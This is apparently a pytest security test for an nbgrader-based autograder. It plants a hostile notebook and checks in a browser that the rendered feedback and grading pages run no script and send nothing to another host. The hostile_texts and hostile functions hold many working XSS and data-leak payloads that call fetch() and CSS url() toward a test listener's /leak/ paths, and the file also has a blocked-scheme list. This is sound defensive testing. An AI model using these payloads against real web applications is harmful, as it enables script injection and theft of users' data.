"""Pages that nbgrader makes of a hostile submission, opened and clicked through in a browser."""

from __future__ import annotations

import base64
import hashlib
import re
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import chromium
import nbformat
import pytest
from conftest import run_nbgrader
from nbgrader.api import Gradebook
from nbgrader.server_extensions.formgrader import handlers

from autograder import course
from autograder.assignment import nbgrader_pages, release
from autograder.checking import syllabus

NAME = "landmarks"
WRITTEN = f"written-{syllabus.written()[0].id}"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    "gg=="
)


# ---------------------------------------------------------------- the allow-list

HONEST = """\
# A heading
Some **bold**, *slanted*, ~~wrong~~, `code` and <sub>small</sub> text.[^1]

- one
- [x] done

1. first

> quoted

| a | b |
|:--|--:|
| 1 | 2 |

```python
def nme(pred):
    return pred < 1
```

[a link](https://example.org/a?b=1&c=2 "title"), <https://example.org>, ![plot](attachment:p.png)

$a < b$ and $$\\sum_i x_i$$

<details><summary>More</summary>

hidden

</details>
"""


def rendered(source, attachments=None):
    cell = nbformat.v4.new_markdown_cell(source)
    if attachments:
        cell.attachments = attachments
    return nbgrader_pages.markdown2html({"cell": cell}, source)


def test_an_honest_answer_looks_as_it_should():
    html = rendered(HONEST, {"p.png": {"image/png": PIXEL}})
    for part in (
        *("<h1>A heading</h1>", "<strong>bold</strong>", "<em>slanted</em>", "<del>wrong</del>"),
        *("<code>code</code>", "<sub>small</sub>", "<blockquote>", "<ol>", "<li>one</li>"),
        *('<th style="text-align:left;">a</th>', '<td style="text-align:right;">2</td>'),
        *('<div class="highlight">', '<span class="k">def</span>', 'type="checkbox"'),
        *('href="https://example.org/a?b=1&amp;c=2"', 'rel="noopener noreferrer nofollow"'),
        *(f'src="data:image/png;base64,{PIXEL}"', "$a &lt; b$", r"$$\sum_i x_i$$"),
        *("<details><summary>More</summary>", "</details>"),
    ):
        assert part in html, part
    assert "¶" not in html


@pytest.mark.parametrize("source", ["![x](attachment:none.png)", "> " * 3000, "[" * 3000])
def test_what_cannot_be_rendered_is_shown_as_text(source):
    assert rendered(source).strip()


@pytest.mark.parametrize(
    "address",
    [
        *("javascript:x", "JaVaScript:x", "java&#115;cript:x", "&#x6A;avascript&colon;x"),
        *("data:text/html;base64,eA==", "vbscript:x", "file:///etc/passwd", "blob:x", "//host/x"),
        *("/files/javascript:x", "files/javascript:x", "/formgrader/?path=/tmp", "page.html", "#a"),
        *("\x01javascript:x", "java\tscript:x", "view-source:x", "https:javascript:x"),
    ],
)
def test_other_addresses_are_no_links(address):
    for source in (f"[a]({address})", f"[a]\n\n[a]: {address}", f'<a href="{address}">a</a>'):
        assert "href" not in re.sub("&lt;.*?&gt;", "", rendered(source)), source
    assert "src=" not in rendered(f"![a]({address})")


def test_nothing_carries_a_name_that_formgrader_knows():
    html = rendered('<b class="full-credit k" id="flip" name="x" data-link="y" style="top:0">a</b>')
    assert html == "<p><b>a</b></p>\n"
    assert rendered("# flip") == "<h1>flip</h1>\n"


def test_the_policy_knows_formgraders_inline_scripts():
    """Else names could not be shown: look at what is new there, and take its hashes."""
    macros = Path(handlers.template_path, "formgrade", "formgrade_macros.html.j2").read_text()
    body = macros[macros.index("macro nav(") :]
    inline = re.findall(r"<script[^>]*>(.*?)</script>", body, re.DOTALL)
    inline += re.findall(r'onclick="([^"]*)"', body)
    policy = (nbgrader_pages.TEMPLATES / "base" / "mathjax.html.j2").read_text()
    hashes = (base64.b64encode(hashlib.sha256(text.encode()).digest()) for text in inline)
    assert set(re.findall("'sha256-(.*?)'", policy)) == {found.decode() for found in hashes}


# ---------------------------------------------------------------- a browser


def hostile_texts(remote):
    """Markdown and HTML, each of which tries to run a script or to ask another host."""
    script = f"document.title='owned';window.owned=1;fetch('{remote}/leak/js');alert(1)"
    quoted = script.replace("'", "&#39;")
    picture = f'<img src="x" onerror="{script}">'
    encoded = base64.b64encode(f"<script>{script}</script>".encode()).decode()
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><script>{script}</script></svg>'
    )
    entities = "".join(f"&#{ord(c)};" for c in "javascript:")
    plain = script.replace("(", "%28").replace(")", "%29")
    links = ["javascript:", "JaVaScRiPt:", entities, "/files/javascript:", "files/javascript:"]
    return [
        *(f"[click]({scheme}{plain})" for scheme in links),
        *(f"[click][{n}]\n\n[{n}]: {scheme}{plain}" for n, scheme in enumerate(links)),
        *(f'<a href="{scheme}{quoted}">click</a>' for scheme in links),
        *(f"<javascript:{plain}>", f"[click](data:text/html;base64,{encoded})"),
        *(f"![x]({remote}/leak/pixel.png)", f"![x][p]\n\n[p]: {remote}/leak/reference.png"),
        *(picture, f"`` ` ``{picture}", f"```{picture}\ncode\n```", f"```mermaid\n{picture}\n```"),
        *(f"<script>{script}</script>", f'<script src="{remote}/leak/x.js"></script>'),
        f'<script type="text/x-mathjax-config">{script}</script>',
        *(svg, f'<svg><a xlink:href="javascript:{quoted}"><text y="9">click</text></a></svg>'),
        f'<img src="data:image/svg+xml;base64,{base64.b64encode(svg.encode()).decode()}">',
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{picture}'>",
        f'<noscript><p title="</noscript>{picture}">',
        f"<xmp><p title='</xmp>{picture}'>",
        *(f"<!--><{picture}-->", f"<![CDATA[>{picture}]]>", f"<style>{picture}</style>"),
        *(f"<textarea>{picture}</textarea>", f"<title></title>{picture}", f"<select>{picture}"),
        f'<iframe srcdoc="{quoted}" src="javascript:{quoted}"></iframe>',
        f'<object data="{remote}/leak/object"></object><embed src="{remote}/leak/embed">',
        f'<form action="javascript:{quoted}"><button formaction="javascript:{quoted}">click',
        f'<details open ontoggle="{script}"><summary>click</summary></details>',
        f"<style>@import url({remote}/leak/style.css);</style>",
        f'<div style="background:url({remote}/leak/background)">x</div>',
        f'<td style="text-align:url({remote}/leak/align)">x</td>',
        f'<link rel="stylesheet" href="{remote}/leak/sheet.css"><base href="{remote}/leak/">',
        f'<meta http-equiv="refresh" content="0;url={remote}/leak/refresh">',
        f'<video src="{remote}/leak/video" poster="{remote}/leak/poster" autoplay></video>',
        f'<input type="image" src="{remote}/leak/input"><img srcset="{remote}/leak/set 2x">',
        f'<a href="{remote}/page" ping="{remote}/leak/ping">a page</a>',
        f"$\\href{{javascript:{script}}}{{x}}$, $</script>{picture}$, $\\class{{full-credit}}x$",
        *('<span class="full-credit">click</span>', f"# {WRITTEN}", f'<h1 id="{WRITTEN}">x</h1>'),
        *("![x](attachment:odd.png)", "![x](attachment:page)", "![x](attachment:none.png)"),
    ]


def hostile(notebook, remote):
    """A submission that has them as Markdown, raw text, code, outputs, attachments, metadata."""
    texts = hostile_texts(remote)
    tag = f"\"><img src=x onerror=\"document.title='owned';fetch('{remote}/leak/meta')\"><b a=\""
    attachments = {
        "odd.png": {f'image/png"{tag}': tag},
        "page": {"text/html": base64.b64encode(b"<script>alert(2)</script>").decode()},
    }
    for text in texts:
        notebook.cells += [
            nbformat.v4.new_markdown_cell(text, attachments=attachments),
            nbformat.v4.new_raw_cell(text, metadata={"raw_mimetype": "text/html"}),
            nbformat.v4.new_code_cell(
                f"# {text}",
                metadata={"tags": [tag], "magics_language": tag},
                outputs=[nbformat.v4.new_output("display_data", data={"text/html": text})],
            ),
        ]
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == WRITTEN:
            cell.source = "\n\n".join(texts)
            cell.attachments = attachments
    odd = {"grade_id": tag, "solution": True, "grade": False, "locked": False, "schema_version": 3}
    notebook.cells.append(nbformat.v4.new_markdown_cell("x", metadata={"nbgrader": odd}))
    notebook.metadata |= {"title": tag, "authors": [tag], "widgets": {tag: {}}}
    notebook.metadata["language_info"] = {"name": tag, "pygments_lexer": tag}
    notebook.metadata["kernelspec"] = {"name": tag, "display_name": tag, "language": tag}
    return notebook


@pytest.fixture(scope="module")
def remote():
    with chromium.listening() as found:
        yield found


@pytest.fixture
def tab(tmp_path):
    if chromium.PROGRAM is None:
        pytest.skip(chromium.WHY_NOT)
    with chromium.page(tmp_path / "profile") as page:
        yield page


@pytest.fixture(scope="module")
def course_folder(built, remote, tmp_path_factory):
    """A course with the hostile submission, graded, and with feedback."""
    folder = tmp_path_factory.mktemp("hostile") / "course"
    shutil.copytree(built.course_folder, folder)
    target = folder / "submitted" / "eve" / NAME / f"{NAME}.ipynb"
    target.parent.mkdir(parents=True)
    nbformat.write(hostile(nbformat.read(built.student, 4), remote[0]), target)
    for command in ("autograde", "generate_feedback"):
        result = run_nbgrader(folder, command, NAME)
        assert result.returncode == 0, result.stderr[-3000:]
    return folder


MADE = ".rendered_html *, .input_area *, .output *"  # all that students can have made
CLICK = f"""(() => {{
    const all = [...document.querySelectorAll("{MADE}")].filter(one => !one.closest("a[href]"));
    for (const one of all) {{ one.click?.(); one.dispatchEvent(new MouseEvent("mouseover")) }}
    return all.length
}})()"""
LINKS = f"""[...document.querySelectorAll("{MADE}")].filter(one => one.matches("a[href]"))"""
HANDLERS = """[...document.querySelectorAll("*")].flatMap(one => [...one.attributes])
    .filter(one => one.name.startsWith("on")).map(one => one.value)"""


def require_harmless(tab, address, remote, known_handlers):
    """Open, look, click everything that a student could have made, and look again."""
    host, asked = remote
    asked.clear()
    tab.open(address)
    title = tab.run("document.title")
    assert set(tab.run(HANDLERS)) == known_handlers
    assert tab.run(CLICK) > 100
    time.sleep(2)
    assert asked == []
    links = tab.run(f"{LINKS}.map(one => one.getAttribute('href'))")
    assert f"{host}/page" in links and all(link.startswith("http") for link in links)
    for number in range(len(links)):
        tab.run(f"{LINKS}[{number}].click()")
    chromium.wait_for(lambda: "/page" in asked)
    time.sleep(2)  # for whatever else asks
    # Only what a link says is asked for, and nobody is told from where.
    assert f"{host}/page" in {host + path for path in asked} <= {*links, f"{host}/favicon.ico"}
    assert tab.run("document.title") == title != "owned" and tab.run("window.owned") is None
    assert tab.dialogs == [] and tab.run("location.href").split("?")[0] == address.split("?")[0]
    # Formgrader waits for MathJax, which comes from another host.
    assert [error for error in tab.errors if "MathJax is not defined" not in error] == []


@pytest.mark.long
def test_the_browser_would_tell(tab, remote, tmp_path):
    """The same texts in a page without any protection."""
    host, asked = remote
    asked.clear()
    picture = next(text for text in hostile_texts(host) if text.startswith("<img src"))
    link = '<a href="javascript:window.owned=2">x</a>'
    path = tmp_path / "page.html"
    path.write_text(f"<body>{picture}<div class=output>{link}</div>")
    tab.open(path.as_uri())
    chromium.wait_for(lambda: tab.run("document.title") == "owned" and asked)
    assert tab.dialogs == ["1"] and tab.run("document.title") == "owned"
    assert [path.split()[0] for path in asked] == ["/leak/js"]
    tab.run(f"{LINKS}[0].click()")
    assert tab.run("window.owned") == 2


@pytest.mark.long
def test_feedback_of_a_hostile_submission_is_harmless(tab, course_folder, remote):
    page = course_folder / "feedback" / "eve" / NAME / f"{NAME}.html"
    require_harmless(tab, page.as_uri(), remote, set())


@pytest.fixture(scope="module")
def formgrader(course_folder):
    """The addresses of a running formgrader's login and of the hostile submission in it."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    extensions = "{'nbgrader.server_extensions.formgrader': True}"
    command = [
        *(sys.executable, "-m", "jupyter_server", "--no-browser", "--allow-root", "--ip=127.0.0.1"),
        *(f"--port={port}", "--IdentityProvider.token=secret"),
        f"--ServerApp.jpserver_extensions={extensions}",
    ]
    with Gradebook(f"sqlite:///{course_folder / 'gradebook.db'}", course.load().name) as gradebook:
        submission = gradebook.find_submission_notebook(NAME, NAME, "eve").id
    host = f"http://127.0.0.1:{port}"
    log, environment = course_folder / "server.log", release.jupyter_environment()
    with open(log, "w") as out:
        server = subprocess.Popen(
            command, cwd=course_folder, env=environment, stdout=out, stderr=out
        )
    try:
        wait_for(f"{host}/login", log)
        yield f"{host}/login?token=secret&next=/api", f"{host}/formgrader/submissions/{submission}/"
    finally:
        server.terminate()
        server.wait()


def wait_for(address, log):
    until = time.monotonic() + 300  # for a machine that is busy
    while True:
        try:
            return urllib.request.urlopen(address).close()
        except OSError:
            assert time.monotonic() < until, log.read_text()
            time.sleep(0.5)


@pytest.mark.long
def test_formgrader_with_a_hostile_submission_is_harmless(tab, formgrader, course_folder, remote):
    login, address = formgrader
    tab.open(login)
    tab.open(address)
    until = time.monotonic() + chromium.PATIENCE
    while not tab.run("formgrader.grades && formgrader.grades.loaded"):
        assert time.monotonic() < until, "no grades are shown"
        time.sleep(0.5)
    require_harmless(tab, address, remote, {"toggle_name(true);", "toggle_name(false);"})
    with Gradebook(f"sqlite:///{course_folder / 'gradebook.db'}", course.load().name) as gradebook:
        grades = gradebook.find_submission_notebook(NAME, NAME, "eve").grades
        assert [grade.name for grade in grades if grade.manual_score is not None] == []
    # The marker's own work goes on: names are shown, points are given.
    shown = "$('.name-shown').first().is(':visible')"
    before = tab.run(shown)
    tab.run(f"$('.glyphicon.name-{'shown' if before else 'hidden'}').get(0).click()")
    assert tab.run(shown) != before
    tab.run(f"$('#{WRITTEN}').parents('.nbgrader_cell').find('.full-credit').get(0).click()")

    def marked():
        with Gradebook(f"sqlite:///{course_folder / 'gradebook.db'}", course.load().name) as book:
            grades = book.find_submission_notebook(NAME, NAME, "eve").grades
            return [grade.name for grade in grades if grade.manual_score]

    chromium.wait_for(marked)
    assert marked() == [WRITTEN]
